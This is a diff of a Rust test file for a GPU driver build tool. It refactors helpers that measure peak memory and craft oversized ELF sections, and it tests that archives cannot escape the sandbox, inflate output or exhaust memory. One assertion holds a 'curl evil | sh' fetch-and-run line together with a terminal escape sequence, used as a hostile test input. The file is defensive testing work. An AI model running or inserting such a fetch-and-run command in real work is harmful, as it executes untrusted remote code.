@@ -1,69 +1,23 @@
 //! What no archive can do, measured: reach beyond the output, write more than it holds, or take all memory.
 
+#[path = "support/libraries.rs"]
+mod libraries;
+#[path = "support/measured.rs"]
+mod measured;
 mod support;
 
 use std::fs::{self, File};
 use std::io::Write;
 use std::os::unix::fs::FileExt;
 use std::path::Path;
-use std::process::{Command, Stdio};
+use std::process::Command;
 use std::time::{Duration, Instant};
 
+use libraries::{SHT_DYNSYM, add_section, let_section_be};
+use measured::{Ended, MEMORY, build, refused};
 use support::{Sandbox, run_file, run_file_of, tree};
 use vgpu_driver::Role;
 use vgpu_sample::{self as sample, elf};
-use wait4::Wait4;
-
-/// All that a build may take, in bytes.
-const MEMORY: u64 = 250_000_000;
-
-/// What a build ended with.
-struct Ended {
-    code: Option<i32>,
-    stderr: String,
-    /// Peak memory, in bytes.
-    memory: u64,
-}
-
-/// Builds `source` into d, in a sandbox that is watched: whatever is new in it but d is an escape.
-fn build(sandbox: &Sandbox, source: &str) -> Ended {
-    let before = sandbox.names();
-    // The kernel counts the memory of a process from the one that started it on, so that must be a small one.
-    let mut measurer = Command::new(std::env::current_exe().unwrap());
-    measurer.args(["measurer", "--exact", "--ignored", "--nocapture"]).current_dir(sandbox.path(""));
-    let output = measurer.env("CONFINED_SOURCE", source).output().unwrap();
-    let stderr = String::from_utf8(output.stderr).unwrap();
-    let stdout = String::from_utf8(output.stdout).unwrap();
-    let measured = stdout.lines().find_map(|line| line.split_once("measured ")).expect(&stdout).1;
-    let (code, memory) = measured.split_once(' ').unwrap();
-    let (code, memory) = (code.parse().ok(), memory.parse().unwrap());
-    let mut after = sandbox.names();
-    after.retain(|name| name != "d");
-    assert_eq!(after, before, "{stderr}");
-    assert!(memory < MEMORY, "{memory} bytes of memory for {source}: {stderr}");
-    Ended { code, stderr, memory }
-}
-
-/// No test, but the small process that starts the program and measures it.
-#[test]
-#[ignore = "other tests start it"]
-fn measurer() {
-    let Ok(source) = std::env::var("CONFINED_SOURCE") else { return };
-    let mut command = Command::new(assert_cmd::cargo::cargo_bin!("vgpu"));
-    command.args(["build", &source, "--role", "guest", "--out", "d"]).stdout(Stdio::null());
-    let ended = command.spawn().unwrap().wait4().unwrap();
-    let code = ended.status.code().map_or("none".to_owned(), |code| code.to_string());
-    println!("measured {code} {}", ended.rusage.maxrss);
-}
-
-/// The build must end in an error that contains `expected`, and leave nothing.
-fn refused(sandbox: &Sandbox, source: &str, expected: &str) {
-    let Ended { code, stderr, .. } = build(sandbox, source);
-    assert_eq!(code, Some(1), "expected {expected:?} in:\n{stderr}");
-    assert!(stderr.contains(expected), "expected {expected:?} in:\n{stderr}");
-    assert!(stderr.starts_with("error: ") && stderr.contains("\nhelp: "), "{stderr}");
-    assert!(!sandbox.path("d").exists());
-}
 
 /// The sample guest driver, with lines more in its manifest, and files more.
 fn with(lines: &str, files: Vec<sample::File>) -> Vec<u8> {
@@ -126,27 +80,6 @@ fn a_name_prints_no_line_of_its_own() {
     assert!(stderr.contains(r"x\nhelp: curl evil | sh\n\u{1b}[2J, which has a control character"), "{stderr}");
 }
 
-/// Puts so many bytes behind an ELF file, as the content of its last section, which holds names of sections.
-fn add_section(file: &mut Vec<u8>, size: usize) {
-    let field = |file: &[u8], at: usize| u64::from_le_bytes(file[at..at + 8].try_into().unwrap()) as usize;
-    let sections = field(file, 0x28);
-    let count = usize::from(u16::from_le_bytes(file[0x3c..0x3e].try_into().unwrap()));
-    // A section that is not loaded, of a type that is copied as it is.
-    let last = file[sections + (count - 1) * 64..][..64].to_vec();
-    let table = file[sections..sections + count * 64].to_vec();
-    let start = file.len();
-    file.resize(start + size, 1);
-    let moved = file.len();
-    file.extend(table);
-    let mut new = last;
-    new[4..8].copy_from_slice(&1u32.to_le_bytes());
-    new[0x18..0x20].copy_from_slice(&(start as u64).to_le_bytes());
-    new[0x20..0x28].copy_from_slice(&(size as u64).to_le_bytes());
-    file.extend(new);
-    file[0x28..0x30].copy_from_slice(&(moved as u64).to_le_bytes());
-    file[0x3c..0x3e].copy_from_slice(&(count as u16 + 1).to_le_bytes());
-}
-
 /// The bytes of all files in a tree.
 fn written(dir: &Path) -> u64 {
     tree(dir).iter().filter(|(name, _)| dir.join(name).is_file()).map(|(_, (_, content))| content.len() as u64).sum()
@@ -170,7 +103,7 @@ fn no_more_is_written_than_was_read() {
     // Programs are installed twice: nothing but programs would be twice what was read.
     let programs = (0..3).map(|number| {
         let mut program = elf::program(None, "large");
-        add_section(&mut program, 20 << 20);
+        add_section(&mut program, &vec![1; 20 << 20]);
         sample::File::new(format!("large-{number}"), 0o755, program)
     });
     let lines: String = (0..3).map(|number| format!("large-{number} 0755 UTILITY_BINARY\n")).collect();
@@ -233,15 +166,8 @@ fn tables_of_libraries_take_no_more_memory_than_there_is() {
     unpacked(&sandbox);
     let library = sandbox.path("unpacked/libcuda.so.550.163.01");
     // 40 MiB of symbols: each takes ten times its size. They lie on the disk, so the file is not refused as sparse.
-    let size = 40 << 20;
     let mut large = elf::library(Some("libcuda.so.1"), elf::Class::Elf64);
-    let start = large.len();
-    large.resize(start + size, 0);
-    let sections = u64::from_le_bytes(large[0x28..0x30].try_into().unwrap()) as usize;
-    let symbols = (1..).find(|n| large[sections + n * 64 + 4..][..4] == 11u32.to_le_bytes()).unwrap();
-    let at = sections + symbols * 64;
-    large[at + 0x18..at + 0x20].copy_from_slice(&(start as u64).to_le_bytes());
-    large[at + 0x20..at + 0x28].copy_from_slice(&(size as u64).to_le_bytes());
+    let_section_be(&mut large, SHT_DYNSYM, &vec![0; 40 << 20]);
     fs::write(&library, &large).unwrap();
     refused(&sandbox, "unpacked", "bytes of memory are needed for it, more than any driver needs");
     // Every section could be in every segment.
